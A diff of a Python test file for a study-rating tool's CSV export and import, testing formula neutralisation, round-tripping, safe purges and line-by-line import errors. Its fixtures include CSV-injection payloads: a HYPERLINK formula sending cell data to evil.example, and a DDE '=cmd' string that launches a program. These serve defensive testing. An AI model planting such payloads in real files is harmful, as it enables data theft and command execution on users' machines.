@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
+import re
 import zipfile
 from pathlib import Path
 
@@ -13,6 +16,7 @@ import sqlite_utils
 
 from core import db as dbmod
 from core import export, human_eval, raters
+from core.__main__ import main as cli_main
 from core.errors import InputError
 from tests.simulated_study import MODEL, add_raters, count_ratings, explain_neurons, prefers, run_raters
 
@@ -178,39 +182,231 @@ def test_ratings_are_deleted_only_inside_the_purge_transaction(rated) -> None:
         dbmod.delete_study_ratings(rated, human_eval.get_study(rated, "Pilot study").id)
 
 
-def test_import_ratings_writes_good_rows_and_reports_bad_ones_by_line(db, tmp_path: Path) -> None:
+# --- hostile text: CSV cells a spreadsheet would run, and values that break naive CSV ------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+    "+1",
+    "-x",
+    "@SUM(A1:A9)",
+    "\t=1+1 after a tab",
+    "\r=cmd after a carriage return",
+    "a lone\rcarriage return",
+    "crlf\r\ninside",
+    'quotes "like" this, and, commas',
+    "'=already quoted by its author",
+    "''+two apostrophes",
+    "'plain apostrophe",
+    "ünïcödé ✓ 日本語",
+    "bidi \u202eevil\u202c text",
+    "-0.5",
+    "trailing cr\r",
+)
+FORMULA_START = re.compile(r"[=+\-@\t\r]")
+PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+HOSTILE_RATERS = ("=cmd|' /C calc'!A0", "-1")
+
+
+@pytest.fixture
+def hostile(db: sqlite_utils.Database) -> sqlite_utils.Database:
+    """Study "S" whose model, explainers, explanations, rater names and comments are hostile CSV text, every item
+    rated by both raters, with confidence and seconds."""
+    for index, text in enumerate(HOSTILE):
+        for name, explainer, variant in (("summary", "@SUM(1)", text), ("original", "-2+3", f"{text} (other)")):
+            dbmod.insert_explanation(
+                db, model="=model()", layer=0, neuron=index, format=name, explainer=explainer, explanation=variant,
+                source="imported",
+            )  # fmt: skip
+    arms = ["summary@@SUM(1)", "original@-2+3"]
+    human_eval.create_study(db, "S", arms, [f"0:{index}" for index in range(len(HOSTILE))], 2, seed=1)
+    add_raters(db, HOSTILE_RATERS)
+    comments = [*HOSTILE, "=1+1", "+cmd", "-", "@", "'-x", "last one"]
+    count = 0
+    for rater in HOSTILE_RATERS:
+        while (item := human_eval.next_item(db, "S", rater)) is not None:
+            human_eval.submit_rating(
+                db, "S", rater, item.item_id, ("left", "right", "tie")[count % 3], confidence=1 + count % 5,
+                comment=comments[count % len(comments)], seconds=(0.1 + 0.2) * count,
+            )  # fmt: skip
+            count += 1
+    return db
+
+
+def plain_rows(frame: pd.DataFrame) -> list[dict]:
+    return frame.astype(object).where(frame.notna(), None).to_dict(orient="records")
+
+
+def test_csv_safe_neutralises_formulas_and_csv_raw_undoes_exactly_that() -> None:
+    cases = {
+        "=1+1": "'=1+1", "+1": "'+1", "-x": "'-x", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+        "-0.5": "-0.5", "-3": "-3", "-1e5": "-1e5", "-inf": "'-inf", "-\u0661": "'-\u0661", "plain": "plain",
+        "": "", "'=x": "''=x", "''+x": "'''+x", "'plain": "'plain", "'": "'", "'-0.5": "'-0.5", " =x": " =x",
+    }  # fmt: skip
+    for value, cell in cases.items():
+        assert export.csv_safe(value) == cell, value
+        assert export.csv_raw(cell) == value, cell
+
+
+def test_hostile_text_round_trips_through_the_csv_export_and_the_import(hostile, tmp_path: Path) -> None:
+    data = export.study_data(hostile, "S")
+    assert {HOSTILE[0], "a lone\rcarriage return", "'=already quoted by its author"} <= set(data.ratings["comment"])
+    assert {"=cmd|' /C calc'!A0", "-1"} == set(data.ratings["rater"])
+    files = export.export_study(hostile, "S", "csv")
+    for name, frame in (("S_ratings.csv", data.ratings), ("S_items.csv", data.items)):
+        rows = list(csv.reader(io.StringIO(files[name].decode(), newline="")))
+        assert len(rows) == len(frame) + 1, name  # no value split a row
+        for cell in (cell for row in rows for cell in row):
+            assert not FORMULA_START.match(cell) or PLAIN_NUMBER.fullmatch(cell), cell
+    loaded = export.load_export(files)
+    assert list(loaded.ratings.columns) == list(data.ratings.columns)
+    assert plain_rows(loaded.ratings) == plain_rows(data.ratings)
+    assert plain_rows(loaded.items) == plain_rows(data.items)
+    # Our import reads our CSV export back: every rating is found equal to the stored one.
+    path = tmp_path / "S_ratings.csv"
+    path.write_bytes(files["S_ratings.csv"])
+    audit = hostile["rating_audit"].count
+    report = export.import_ratings(hostile, "S", path)
+    assert (report.read, report.written, report.replaced, report.unchanged, report.rejected) == (
+        len(data.ratings), 0, 0, len(data.ratings), 0,
+    )  # fmt: skip
+    assert hostile["rating_audit"].count == audit
+    assert plain_rows(export.study_data(hostile, "S").ratings) == plain_rows(data.ratings)
+
+
+def test_a_csv_purge_of_hostile_text_reads_back_every_rating(hostile, tmp_path: Path) -> None:
+    data = export.study_data(hostile, "S")
+    raters.add_rater(hostile, "boss", CODES["boss"], admin=True)
+    admin = raters.authenticate(hostile, "boss", CODES["boss"])
+    result = export.purge_study_ratings(hostile, "S", admin, tmp_path / "purged", fmt="csv")
+    assert result["deleted"] == len(data.ratings) and count_ratings(hostile) == 0
+    assert plain_rows(export.load_export(tmp_path / "purged").ratings) == plain_rows(data.ratings)
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full to stand for a full disk")
+def test_a_purge_that_cannot_write_its_export_deletes_nothing_and_leaves_no_file(
+    rated, db_path: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The disk fills while the last file is written: the files written before it go too, and the error says why."""
+    before, audit = count_ratings(rated), rated["rating_audit"].count
+    out = tmp_path / "purged"
+    out.mkdir()
+    (out / ".Pilot_study_items.csv.partial").symlink_to("/dev/full")  # writing there fails with ENOSPC
+    monkeypatch.setenv("EVAL_ADMIN_CODE", CODES["boss"])
+    argv = ["study", "purge", "Pilot study", "--admin", "boss", "--out", str(out), "--format", "csv"]
+    code = cli_main([*argv, "--db", str(db_path)])
+    err = capsys.readouterr().err
+    assert code == 2 and (count_ratings(rated), rated["rating_audit"].count) == (before, audit)
+    assert list(out.iterdir()) == []  # neither the summary nor the ratings file written before the disk filled
+    assert err.count("\n") == 1 and "No space left on device" in err
+    assert err.startswith("error: purge of study 'Pilot study' stopped, no rating deleted: cannot write the export")
+
+
+# --- import of ratings collected elsewhere -----------------------------------------------------------------------
+
+
+@pytest.fixture
+def items(db: sqlite_utils.Database) -> dict[str, int]:
+    """Studies "S" (no both_bad) and "Other", and rater ann; S's first three item ids and one of Other's."""
     neurons = explain_neurons(db, 3)
     human_eval.create_study(db, "S", f"{A},{B}", neurons, 2, seed=1, allow_both_bad=False)
     human_eval.create_study(db, "Other", f"{A},{B}", neurons, 2, seed=2)
     add_raters(db, ["ann"])
-    items = [item["item_id"] for item in human_eval.study_items(db, "S")]
-    foreign = human_eval.study_items(db, "Other")[0]["item_id"]
+    ids = [item["item_id"] for item in human_eval.study_items(db, "S")]
+    return {"a": ids[0], "b": ids[1], "c": ids[2], "foreign": human_eval.study_items(db, "Other")[0]["item_id"]}
+
+
+def test_import_is_all_or_nothing_and_reports_every_bad_row_by_line(db, items, tmp_path: Path) -> None:
+    a, b, c = items["a"], items["b"], items["c"]
+    arabic_c = "".join(chr(0x0660 + int(digit)) for digit in str(c))  # int() reads these as c
     path = tmp_path / "ratings.csv"
     path.write_text(
         "item_id,rater,choice,confidence,seconds,comment,extra\n"
-        f"{items[0]},ann,left,4,12.5,fine,x\n"  # line 2: ok
-        f"{items[1]},ann,sideways,,,,\n"  # line 3: bad choice
-        f'{items[1]},ann,right,,,"two\nlines",\n'  # lines 4-5: ok
-        f"{foreign},ann,left,,,,\n"  # line 6: item of another study
-        f"{items[2]},zed,left,,,,\n"  # line 7: unknown rater
-        f"{items[2]},ann,both_bad,,,,\n"  # line 8: not allowed in this study
-        f"{items[2]},ann,tie,9,,,\n"  # line 9: confidence out of range
-        f"x{items[2]},ann,tie,,,,\n"  # line 10: bad item id
-        f"{items[0]},ann,right,,,,\n",  # line 11: replaces line 2
+        f"{a},ann,left,4,12.5,fine,x\n"  # line 2: ok
+        f"{b},ann,sideways,,,,\n"  # line 3: bad choice
+        f'{b},ann,right,,,"two\nlines",\n'  # lines 4-5: ok
+        f"{items['foreign']},ann,left,,,,\n"  # line 6: item of another study
+        f"{c},zed,left,,,,\n"  # line 7: unknown rater (ok with --create-raters)
+        f"{c},ann,both_bad,,,,\n"  # line 8: not allowed in this study
+        f"{c},ann,tie,inf,,,\n"  # line 9
+        f"{c},ann,tie,,nan,,\n"  # line 10
+        f"{c},ann,tie,,-inf,,\n"  # line 11
+        f"{c},ann,tie,\u0661,,,\n"  # line 12: an Arabic-Indic digit one
+        f"{arabic_c},ann,tie,,,,\n"  # line 13
+        f"²:{c},ann,tie,,,,\n"  # line 14
+        f"{a},ann,right,,,,\n"  # line 15: a second rating of line 2's item by the same rater
+        f"x{c},ann,tie,,,,\n"  # line 16
+        f'{c},ann,tie,,,"never closed,\n'  # line 17: an unterminated quote swallows the rest
+        f"{c},ann,tie,,,,\n",
         encoding="utf-8",
     )
-    report = export.import_ratings(db, "S", path)
-    assert (report.written, report.replaced) == (3, 1)
-    assert [line for line, _ in report.errors] == [3, 6, 7, 8, 9, 10]
-    messages = dict(report.errors)
-    assert "sideways" in messages[3] and "not part of study 'S'" in messages[6]
-    assert "zed" in messages[7] and "both_bad" in messages[8] and "outside 1–5" in messages[9]
-    assert count_ratings(db) == 2
+    bad = [3, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]
+    for create in (False, True):
+        wanted = [line for line in bad if not (create and line == 7)]
+        with pytest.raises(export.ImportRatingsError, match=rf"nothing imported, {len(wanted)} bad row") as caught:
+            export.import_ratings(db, "S", path, create_raters=create)
+        assert [line for line, _ in caught.value.errors] == wanted
+        assert (count_ratings(db), db["rating_audit"].count, db["raters"].count) == (0, 0, 1)  # zed not created
+    messages = dict(caught.value.errors)
+    assert "sideways" in messages[3] and "not part of study 'S'" in messages[6] and "both_bad" in messages[8]
+    assert "confidence 'inf'" in messages[9] and "seconds 'nan'" in messages[10] and "'-inf'" in messages[11]
+    assert "digits 0-9" in messages[12] and arabic_c in messages[13] and "'²:" in messages[14]
+    assert "already on line 2" in messages[15] and "never closed" in messages[17]
+    assert "\n" not in str(caught.value)
+
+
+def test_a_field_over_the_size_limit_is_reported_by_line(db, items, tmp_path: Path) -> None:
+    limit = csv.field_size_limit()
+    path = tmp_path / "ratings.csv"
+    over_pythons_default = "n" * 200_000  # csv's default limit is 131072; ours is MAX_FIELD_CHARS
+    path.write_text(f"item_id,rater,choice,note\n{items['a']},ann,left,{over_pythons_default}\n", encoding="utf-8")
+    assert export.import_ratings(db, "S", path).written == 1
+    too_long = "n" * (export.MAX_FIELD_CHARS + 1)
+    path.write_text(f'item_id,rater,choice,note\n{items["a"]},ann,left,\n{items["b"]},ann,left,"{too_long}"\n')
+    with pytest.raises(export.ImportRatingsError, match=r"line 3: a field is longer than 1,000,000 characters"):
+        export.import_ratings(db, "S", path)
+    assert csv.field_size_limit() == limit
+    assert count_ratings(db) == 1
+
+
+def test_reimporting_the_same_file_changes_nothing_but_a_new_choice_is_a_revision(db, items, tmp_path) -> None:
+    a, b, c = items["a"], items["b"], items["c"]
+    path = tmp_path / "ratings.csv"
+    rows = f"{a},ann,left,4,12.5,fine\n{b},ann,right,,,\n{c},zed,tie,,0.3,\n"
+    path.write_text("item_id,rater,choice,confidence,seconds,comment\n" + rows, encoding="utf-8")
+    first = export.import_ratings(db, "S", path, create_raters=True)
+    assert (first.read, first.written, first.replaced, first.unchanged, first.created_raters) == (3, 3, 0, 0, ("zed",))
+    stored = plain_rows(export.study_data(db, "S").ratings)
+    again = export.import_ratings(db, "S", path, create_raters=True)
+    assert (again.read, again.written, again.replaced, again.unchanged, again.created_raters) == (3, 0, 0, 3, ())
+    assert db["rating_audit"].count == 0 and plain_rows(export.study_data(db, "S").ratings) == stored
+    path.write_text(f"item_id,rater,choice\n{b},ann,left\n", encoding="utf-8")
+    changed = export.import_ratings(db, "S", path)
+    assert (changed.written, changed.replaced, changed.unchanged) == (1, 1, 0)
     assert db["rating_audit"].count == 1
-    assert human_eval.rater_progress(db, "S", "ann").rated == 2  # imported ratings count as seen
-    assert db["raters"].count == 1
-    created = export.import_ratings(db, "S", path, create_raters=True)
-    assert created.created_raters == ("zed",)
+    assert export.study_data(db, "S").ratings["revisions"].tolist() == [0, 1, 0]
+
+
+def test_the_import_cli_prints_one_summary_line_or_one_error_line(db, db_path, items, tmp_path, capsys) -> None:
+    path = tmp_path / "ratings.csv"
+    path.write_text(f"item_id,rater,choice\n{items['a']},ann,left\n{items['b']},ann,tie\n", encoding="utf-8")
+    argv = ["import-ratings", "--study", "S", str(path), "--db", str(db_path)]
+    assert cli_main(argv) == 0
+    out = capsys.readouterr().out
+    assert out == (
+        "study 'S': 2 rows read, 2 written (0 replacing a different rating), 0 unchanged, 0 rejected; "
+        "no shown_left column, so each item's default layout was assumed\n"
+    )
+    assert cli_main([*argv, "--json"]) == 0
+    assert json.loads(capsys.readouterr().out) == {
+        "read": 2, "written": 0, "replaced": 0, "unchanged": 2, "created_raters": [], "rejected": 0,
+        "default_layout": True,
+    }  # fmt: skip
+    path.write_text(f"item_id,rater,choice\n{items['a']},ann,right\n{items['b']},ann,up\n", encoding="utf-8")
+    assert cli_main(argv) == 2
+    out, err = capsys.readouterr()
+    assert out == "" and err.count("\n") == 1
+    assert err.startswith(f"error: {path}: nothing imported, 1 bad row(s) of 2 read") and "line 3: choice 'up'" in err
+    assert export.study_data(db, "S").ratings["choice"].tolist() == ["left", "tie"]
     path.write_text("item,rater\n1,ann\n")
     with pytest.raises(InputError, match="item_id, choice"):
         export.import_ratings(db, "S", path)
